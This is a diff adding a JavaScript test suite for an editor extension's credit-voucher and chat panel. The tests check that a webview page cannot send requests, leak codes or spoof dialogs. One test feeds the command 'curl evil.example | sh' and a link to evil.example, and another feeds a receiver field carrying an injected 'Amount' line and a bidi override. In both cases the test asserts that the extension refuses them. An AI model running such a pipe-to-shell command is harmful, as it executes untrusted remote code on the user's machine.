@@ -1,0 +1,218 @@
+// What a page of the panel can make the extension do, and how the extension says how something ended.
+import assert from "node:assert/strict";
+import { describe, it } from "node:test";
+
+import { Stage } from "./support/stage.mjs";
+import { Uri } from "./support/fake-editor.mjs";
+import { until } from "./support/until.mjs";
+
+const GIVE = "/quota/transfer-out";
+const CHAT = "/chat/completions";
+
+describe("a page and the editor around it", () => {
+  const stage = new Stage();
+  const signedIn = async (settings) => {
+    const editor = await stage.editor(settings);
+    const { token } = await stage.account();
+    await editor.signIn(token);
+    await stage.statusSays(editor, "41.5");
+    return { editor, page: await stage.page(editor), token };
+  };
+  const sectionOf = (page, kind) => page.views().at(-1).sections.find((section) => section.kind === kind);
+  const giveLine = (page) => until("what can be given", () => sectionOf(page, "voucher")?.give.lines[0]);
+  const modal = (editor) => until("the dialog", () => editor.said.find((said) => said.modal));
+
+  describe("giving credits away", () => {
+    it("is asked about by the editor with receiver and amount, and nothing is sent without the user's word", async () => {
+      const { editor, page } = await signedIn();
+      const receiverId = await stage.ledger.account();
+      const { expiresAt } = await giveLine(page);
+      page.says({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
+      const { detail, actions } = await modal(editor);
+      assert.ok(detail.includes(receiverId));
+      assert.match(detail, /Amount: 2\b/);
+      assert.equal(actions.length, 1);
+      await editor.command("refresh");
+      assert.deepEqual(stage.sentTo(GIVE), []);
+    });
+
+    it("shows the code in the editor, and never in a message to the page", async () => {
+      const { editor, page } = await signedIn();
+      const receiverId = await stage.ledger.account();
+      const { expiresAt } = await giveLine(page);
+      editor.user.message = ({ actions }) => actions[0];
+      page.says({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
+      const code = await until("the code", () => editor.copied);
+      assert.match(code, /^[\x21-\x7e]{20,}$/);
+      await until("the result on the page", () => sectionOf(page, "voucher").give.result);
+      assert.ok(!JSON.stringify(page.told).includes(code));
+      assert.ok(!JSON.stringify(editor.log).includes(code));
+      page.says({ type: "act", id: "copy", value: code });
+    });
+
+    it("shows a receiver as it is, whatever a page writes into it", async () => {
+      const { editor, page } = await signedIn();
+      const { expiresAt } = await giveLine(page);
+      page.says({ type: "voucher_give", receiverId: `a\nAmount: 0\u202e${"x".repeat(5_000)}`, lines: [{ expiresAt, amount: 2 }] });
+      const { detail } = await modal(editor);
+      assert.ok(detail.length < 400);
+      assert.doesNotMatch(detail, /\u202e/);
+      assert.equal(detail.split("\n").filter((line) => line.startsWith("Amount")).length, 1);
+    });
+
+    it("is one dialog, however often a page asks", async () => {
+      const { editor, page } = await signedIn();
+      const receiverId = await stage.ledger.account();
+      const { expiresAt } = await giveLine(page);
+      let answer;
+      editor.user.message = () => new Promise((resolve) => (answer = resolve));
+      for (let time = 0; time < 5; time += 1) page.says({ type: "voucher_give", receiverId, lines: [{ expiresAt, amount: 2 }] });
+      await until("the dialog", () => answer);
+      await editor.command("refresh");
+      assert.equal(editor.said.filter((said) => said.modal).length, 1);
+      answer(undefined);
+    });
+  });
+
+  it("a request that costs credits is asked about, and not sent without the user's word", async () => {
+    const { editor, page } = await signedIn();
+    page.says({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
+    const { actions, text } = await modal(editor);
+    assert.ok(text.length > 0 && actions.length === 1);
+    await editor.command("refresh");
+    assert.deepEqual(stage.sentTo(CHAT), []);
+    editor.user.message = (asked) => asked.actions[0];
+    page.says({ type: "send", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
+    await until("the request", () => (stage.sentTo(CHAT).length === 1 ? true : undefined));
+    await until("the page to hear of it", () => page.told.find(({ type }) => type === "sent"));
+  });
+
+  it("opens and copies only what the panel offers", async () => {
+    const { editor, page } = await signedIn();
+    page.says({ type: "open", href: "https://evil.example/?credits=41.5" });
+    page.says({ type: "act", id: "copy", value: "curl evil.example | sh" });
+    page.says({ type: "act", id: "refresh" });
+    await editor.command("refresh");
+    assert.deepEqual(editor.opened, []);
+    assert.equal(editor.copied, undefined);
+  });
+
+  describe("a clipboard that refuses", () => {
+    it("is said, and the code of a voucher stays in a box where it can be selected", async () => {
+      const { editor } = await signedIn();
+      const answers = ["2", await stage.ledger.account()];
+      let box;
+      editor.user.pick = ([first]) => first;
+      editor.user.input = (options) => (answers.length > 0 ? answers.shift() : void (box = options));
+      editor.user.message = ({ actions }) => actions[0];
+      editor.failing.set("clipboard", new Error("no clipboard"));
+      await editor.command("giveVoucher");
+      assert.match(box.value, /^[\x21-\x7e]{20,}$/);
+      assert.deepEqual(box.valueSelection, [0, box.value.length]);
+      assert.equal((await stage.said(editor, /clipboard/)).kind, "warning");
+      assert.ok(!editor.said.some(({ text }) => /^Copied/.test(text)));
+      assert.ok(!JSON.stringify([editor.said, editor.log]).includes(box.value));
+    });
+
+    it("a code that was not copied is offered once more", async () => {
+      const { editor } = await signedIn();
+      const answers = ["2", await stage.ledger.account()];
+      editor.user.pick = ([first]) => first;
+      editor.user.input = () => answers.shift();
+      // The user agrees to give, closes the message with the code, and copies it at the second chance.
+      editor.user.message = ({ modal, actions }) => (modal ? actions[0] : undefined);
+      await editor.command("giveVoucher");
+      await stage.said(editor, /not been copied/);
+      assert.match(editor.copied, /^[\x21-\x7e]{20,}$/);
+    });
+  });
+
+  describe("an export that is not complete", () => {
+    const demo = async () => {
+      const editor = await stage.editor();
+      const id = await stage.ledger.demo();
+      await editor.signIn(await stage.ledger.token(id));
+      await until("a number", () => (/\d/.test(editor.item.text ?? "") ? true : undefined));
+      return editor;
+    };
+    /** From this page on the server fails. */
+    const failFrom = (page) => {
+      stage.answer = (address) => {
+        const found = /usage\/statistics|usage/.test(address) ? /[?&]page=(\d+)/.exec(address)?.[1] : undefined;
+        return found !== undefined && Number(found) >= page ? new Response("{}", { status: 500 }) : undefined;
+      };
+    };
+    for (const by of ["command", "panel"]) {
+      const begin = async (editor) => {
+        if (by === "command") {
+          editor.user.pick = (items) => items.find(({ value }) => value === "usage.csv");
+          return editor.command("exportHistory");
+        }
+        const page = await stage.page(editor);
+        page.says({ type: "act", id: "usage_range", value: "30days" });
+        page.says({ type: "act", id: "export", value: "usage.csv" });
+      };
+
+      it(`is said, also in the file's name (by ${by})`, { timeout: 120_000 }, async () => {
+        const editor = await demo();
+        failFrom(2);
+        let suggested;
+        editor.user.save = ({ defaultUri }) => ((suggested = String(defaultUri)), Uri.parse("memory:///export.csv"));
+        await begin(editor);
+        assert.equal((await stage.said(editor, /not complete/)).kind, "warning");
+        assert.match(suggested, /-incomplete\.csv$/);
+        assert.ok(editor.files.get("/export.csv").length > 100);
+      });
+
+      it(`writes no file where nothing could be read (by ${by})`, { timeout: 120_000 }, async () => {
+        const editor = await demo();
+        failFrom(1);
+        let asked = false;
+        editor.user.save = () => void (asked = true);
+        await begin(editor);
+        assert.equal((await stage.said(editor, /Nothing was exported/)).kind, "error");
+        assert.equal(asked, false);
+      });
+    }
+  });
+
+  it("views are in the reader's zone and region, also when they change while the page is open", async () => {
+    const editor = await stage.editor();
+    const { token } = await stage.account();
+    await editor.signIn(token);
+    await stage.statusSays(editor, "41.5");
+    const page = await stage.page(editor, { reader: { timeZone: "Asia/Shanghai", locale: "en-GB" } });
+    const expiry = () => JSON.stringify(sectionOf(page, "settings")?.timeZone);
+    await until("the zone", () => (/Shanghai|GMT\+8/.test(expiry()) ? true : undefined));
+    assert.equal(page.views().at(-1).locale.split("-")[0], "en");
+    page.says({ type: "reader", reader: { timeZone: "America/New_York", locale: "en-GB" } });
+    await until("the other zone", () => (/New_York|New York|GMT-[45]/.test(expiry()) ? true : undefined));
+    page.says({ type: "reader", reader: { timeZone: "Nowhere/At all" } });
+    page.says({ type: "act", id: "mask", value: "on" });
+    await until("a view in the host's zone", () => (page.views().at(-1).masked ? true : undefined));
+  });
+
+  it("the prompt is there again after the view was hidden and shown, and after a setting changed", async () => {
+    const { editor, page } = await signedIn();
+    const estimate = () => sectionOf(page, "send")?.estimate;
+    page.says({ type: "draft", text: "Explain burn-down.", model: "Kimi-K2-Moonshot" });
+    await until("an estimate", estimate);
+    editor.configure({ "budget.perDay.warn": 1000 });
+    page.told.length = 0;
+    await until("an estimate after the change", () => (page.views().length > 0 ? estimate() : undefined));
+    page.hide();
+    page.told.length = 0;
+    page.show();
+    page.ready({ draft: { text: "Explain burn-down.", model: "Kimi-K2-Moonshot" } });
+    await until("an estimate after the return", () => (page.views().length > 0 ? estimate() : undefined));
+  });
+
+  it("a prompt that is too long is refused where it was written, once while it is", async () => {
+    const { editor, page } = await signedIn();
+    const text = "x".repeat(1_000_001);
+    for (const more of ["", "y"]) page.says({ type: "draft", text: text + more, model: "Auto" });
+    await stage.said(editor, /too long/);
+    assert.deepEqual(page.told.find(({ type }) => type === "refused"), { type: "refused", field: "text", of: "draft" });
+    assert.equal(editor.said.length, 1);
+  });
+});
